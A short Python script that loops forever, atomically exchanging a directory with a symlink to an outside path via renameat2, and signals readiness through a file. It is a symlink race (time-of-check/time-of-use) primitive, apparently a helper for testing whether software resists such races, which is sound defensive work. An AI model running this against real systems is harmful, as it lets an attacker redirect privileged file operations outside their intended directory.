#!/usr/bin/env python3
"""Swaps a directory for a symbolic link and back, until it is killed: swap.py DIRECTORY OUTSIDE READY"""
import ctypes, os, sys
victim, outside, ready = (os.fsencode(a) for a in sys.argv[1:])
libc = ctypes.CDLL(None); link = victim + b".link"
os.symlink(outside, link); open(ready, "w").close()
while True: libc.renameat2(-100, victim, -100, link, 2)  # RENAME_EXCHANGE
